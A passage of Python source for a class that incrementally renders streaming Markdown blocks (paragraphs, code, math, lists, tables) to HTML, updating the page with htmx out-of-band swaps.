        self._settled, self._parts, self._head, self._open_tag = 0, [], "", ""
        self._scan, self._checked_table, self._first_line_done = _InlineScan(), False, False
        self.text = text
        self.kind = _kind_of(text)
        self._start()
        self._settle()
        return self.html()

    def grow(self, text: str) -> tuple[str, bool]:
        """The same block, longer: (HTML, True) to replace the tail's content with, or
        (out-of-band swaps, False) that add what settled and replace the live end."""
        if not text.startswith(self.text) or self._kind_changes(text):
            return self.restart(text), True
        self.text = text
        if self.kind in ("pending", "other"):
            return self.html(), True
        before = len(self._parts)
        old = self.live_id
        self._settle()
        self._count += 1
        settled = "".join(self._parts[before:])
        live = self._live()
        if self.kind == "table":
            body = f"<tbody>{settled}</tbody>" if settled else ""
            swap = f'<table hx-swap-oob="beforebegin:#{old}">{body}{live}</table>'
        elif self.kind == "list":
            swap = f'<ul hx-swap-oob="beforebegin:#{old}">{settled}{live}</ul>'
        else:
            swap = f'<div hx-swap-oob="beforebegin:#{old}">{settled}{live}</div>'
        return swap + f'<i id="{old}" hx-swap-oob="delete"></i>', False

    def html(self) -> str:
        """The tail element's whole content as things stand (a snapshot, a restart)."""
        if self.kind == "pending":
            return ""  # a line that cannot tell yet what it starts ("1", "```py", "| na")
        if self.kind == "other":
            return render_tail(_closed_last_line(self.text))
        settled = "".join(self._parts)
        live = self._live()
        if self.kind == "paragraph":
            return f"<p>{settled}{live}</p>\n"
        if self.kind == "code":
            return _code_block(self._head, settled + live)
        if self.kind == "math":
            return f'<pre class="math-pending">{settled}{live}</pre>\n'
        if self.kind == "list":
            return f"{self._open_tag}{settled}{live}</{self._open_tag[1:3]}>\n"
        table = render(self._head)  # <table><thead>…</thead></table>
        body = f"<tbody>{settled}</tbody>" if settled else ""
        return table.replace("</table>", f"{body}{live}</table>", 1)

    # --- kinds --------------------------------------------------------------------------
    def _kind_changes(self, text: str) -> bool:
        if self.kind == "pending":
            return _kind_of(text) != "pending"
        if self.kind == "math" and not self._first_line_done:
            # "$$x^2" may still close on its own line: a formula in one line after all.
            self._first_line_done = "\n" in text
            return _kind_of(text) != "math"
        if self.kind == "paragraph" and not self._checked_table:
            # "Name | Age" then "--- | ---": a table after all, once its second line is in.
            first_end = text.find("\n")
            if first_end < 0:
                return False
            if "|" not in text[:first_end]:
                self._checked_table = True
                return False
            if text.find("\n", first_end + 1) < 0:
                return False
            self._checked_table = True
            return _kind_of(text) == "table"
        return False

    def _start(self) -> None:
        if self.kind == "code":
            fence = _FENCE_START.match(self.text)
            assert fence is not None
            self._head = _LANG.sub("", fence.group(2).strip().split(" ")[0])[:30]
            self._settled = fence.end()
        elif self.kind == "math":
            math = _MATH_OPEN.match(self.text)
            assert math is not None
            self._head = _CLOSING[math.group(1)]
            self._settled = math.end()
        elif self.kind == "table":
            second_end = self.text.find("\n", self.text.find("\n") + 1)
            self._head = self.text[: second_end + 1]
            self._settled = second_end + 1
        elif self.kind == "list":
            match = _ITEM_START.match(self.text)
            assert match is not None
            self._head = match.group(1)  # the list's indentation
            first = _OUTER_LIST.match(render(self.text[: self.text.find("\n") + 1 or None]))
            # <ul>, or <ol start=…>: numbering goes on from the first item's number.
            self._open_tag = first.group(1) if first else "<ul>"

    def _settle(self) -> None:
        text = self.text
        if self.kind == "paragraph":
            # Scanned up to the last space: every marker before it has its next character.
            # Never past a blank line: what follows it is another block, not yet known.
            blank = _BLANK_LINE.search(text, self._settled)
            limit = blank.start() + 1 if blank else len(text)
            last_space = max(text.rfind(" ", 0, limit), text.rfind("\n", 0, limit)) + 1
            if last_space > self._scan.scanned:
                self._scan.feed(text, last_space)
            cut = self._scan.balanced
            if cut > self._settled:
                self._parts.append(_inline(text[self._settled : cut]))
                self._settled = cut
            elif len(text) - self._settled > _FORCE_SETTLE and last_space > self._settled:
                # Something stays open too long: settle anyway, its markers closed.
                self._parts.append(_inline(_closed_inline(text[self._settled : last_space])))
                self._settled = last_space
                self._scan = _InlineScan(balanced=last_space, scanned=last_space)
        elif self.kind in ("code", "math"):
            cut = text.rfind("\n") + 1
            if self.kind == "math":
                # A formula's source is text until it closes: settled at a space too, so
                # that a long line of it is not sent again in every frame.
                cut = max(cut, text.rfind(" ") + 1)
            if cut > self._settled:
                self._parts.append(escape(text[self._settled : cut], quote=False))
                self._settled = cut
        elif self.kind == "list":
            cut = self._settled
            indent = len(self._head)
            at = text.find("\n", self._settled)
            while at >= 0:
                match = _ITEM_START.match(text, at + 1)
                if match and len(match.group(1)) <= indent + 1 and at + 1 > self._settled:
                    cut = at + 1
                at = text.find("\n", at + 1)
            if cut > self._settled:
                self._parts.append(self._items(text[self._settled : cut]))
                self._settled = cut
        elif self.kind == "table":
            cut = text.rfind("\n") + 1
            if cut > self._settled:
                self._parts.append(self._rows(text[self._settled : cut]))
                self._settled = cut

    def _live(self) -> str:
        rest = self.text[self._settled :]
        live_id = self.live_id
        if self.kind == "paragraph":
            # After a blank line comes another block, not yet known: not shown here.
            blank = _BLANK_LINE.search(self.text, max(0, self._settled - 1))
            if blank:
                rest = self.text[self._settled : max(self._settled, blank.start())]
            return f'<span id="{live_id}">{_inline(_closed_inline(rest))}</span>'
        if self.kind == "code":
            if rest.strip() and set(rest.strip()) <= {"`", "~"}:
                rest = ""  # the closing fence, arriving
            return f'<span id="{live_id}">{escape(rest, quote=False)}</span>'
        if self.kind == "math":
            rest = _CLOSING_ARRIVING.sub("", rest)  # "x^2$": the closing "$$" arriving
            return f'<span id="{live_id}">{escape(rest, quote=False)}</span>'
        if self.kind == "list":
            items = self._items(rest, live=True) if rest.strip() else "<li></li>"
            return items.replace("<li>", f'<li id="{live_id}">', 1)
        rows = self._rows(_closed_last_line(rest)) if rest.strip() else ""
        return f'<tbody id="{live_id}">{rows}</tbody>'

    def _items(self, text: str, *, live: bool = False) -> str:
        simple = _SIMPLE_ITEM.match(text)
        if simple is not None and not _INLINE_SYNTAX.search(simple.group(1)):
            # "- a plain item" (most live items): its HTML without the parser.
            return f"<li>{escape(simple.group(1).strip(), quote=False)}</li>\n"
        match = _OUTER_LIST.match(render(_closed_last_line(text) if live else text))
        return match.group(2) if match else f"<li>{_inline(_closed_inline(text.strip()))}</li>"

    def _rows(self, text: str) -> str:
        match = _TBODY.search(render(self._head + text))
        return match.group(1) if match else ""
